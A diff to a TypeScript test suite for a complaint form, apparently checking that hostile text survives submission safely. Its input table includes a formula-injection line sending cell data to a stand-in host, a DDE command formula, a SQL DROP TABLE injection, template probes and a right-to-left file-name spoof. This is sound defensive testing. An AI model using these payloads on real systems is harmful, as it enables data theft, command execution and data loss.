@@ -11,7 +11,7 @@ afterAll(() => rig.stop());
 const REPLACED = "\uFFFD";
 
 /** What is typed, and what is kept when it differs. */
-const TEXTS: readonly [name: string, typed: string, kept?: string][] = [
+const TEXTS: readonly [name: string, typed: string, kept?: string, line?: string][] = [
   ["import", '=IMPORTXML("http://exemple.fr/?"&A1,"//a")'],
   ["hyperlink", '=HYPERLINK("http://exemple.fr","clic")'],
   ["command", "+cmd|' /C calc'!A0"],
@@ -32,7 +32,12 @@ const TEXTS: readonly [name: string, typed: string, kept?: string][] = [
   ["template", "{{7*7}} #{7*7} <%= 7*7 %>"],
   ["SQL", "'); DROP TABLE submissions; --"],
   ["emoji", "👩‍👩‍👧‍👦 🇫🇷 é"],
-  ["right to left", "شكوى \u202Etxt.exe\u202C \u200Ffin\u2069"],
+  [
+    "right to left",
+    "شكوى \u202Etxt.exe\u202C \u200Ffin\u2069",
+    "شكوى [RLO]txt.exe[PDF] \u200Ffin[PDI]",
+    "شكوى txt.exe \u200Ffin",
+  ],
   ["NUL", "a\u0000b", `a${REPLACED}b`],
   ["escape", "a\u001B[31mb\u0085c", `a${REPLACED}[31mb\nc`],
   ["byte order mark inside", "a\uFEFFb"],
@@ -69,8 +74,8 @@ const copied = (html: string) =>
     decoded(text ?? ""),
   );
 
-test.each(TEXTS)("by the form: %s", async (_, typed, kept = typed) => {
-  const line = kept.replaceAll(/[\t\n]+/g, " ");
+test.each(TEXTS)("by the form: %s", async (_, typed, kept = typed, onLine) => {
+  const line = onLine ?? kept.replaceAll(/[\t\n]+/g, " ");
   const answer = await submit({ ...COMPLAINT, subject: typed, message: typed, name: typed });
   expect(answer.status).toBe(200);
   const html = await answer.text();
@@ -79,18 +84,16 @@ test.each(TEXTS)("by the form: %s", async (_, typed, kept = typed) => {
   expect(await rowOf(reference)).toMatchObject({ Objet: line, Message: kept, Nom: line });
 });
 
-test.each([...TEXTS, ["lone surrogates", "a\ud800b\udc00", `a${REPLACED}b${REPLACED}`]] as const)(
-  "by the API: %s",
-  async (name, typed, kept = typed) => {
-    const answer = await post(rig, `cle-du-texte-${name.replaceAll(" ", "-")}`, {
-      ...COMPLAINT,
-      message: typed,
-    });
-    expect(answer.status).toBe(201);
-    const { reference } = (await answer.json()) as { reference: string };
-    expect(await rowOf(reference)).toMatchObject({ Message: kept });
-  },
-);
+const LONE: (typeof TEXTS)[number] = ["lone surrogates", "a\ud800b\udc00", `a${REPLACED}b${REPLACED}`];
+test.each([...TEXTS, LONE])("by the API: %s", async (name, typed, kept = typed, _line = undefined) => {
+  const answer = await post(rig, `cle-du-texte-${name.replaceAll(" ", "-")}`, {
+    ...COMPLAINT,
+    message: typed,
+  });
+  expect(answer.status).toBe(201);
+  const { reference } = (await answer.json()) as { reference: string };
+  expect(await rowOf(reference)).toMatchObject({ Message: kept });
+});
 
 test.each(TEXTS)("echoed by a page of errors, exactly as typed: %s", async (_, typed) => {
   const answer = await submit({ subject: typed, message: typed, name: typed });
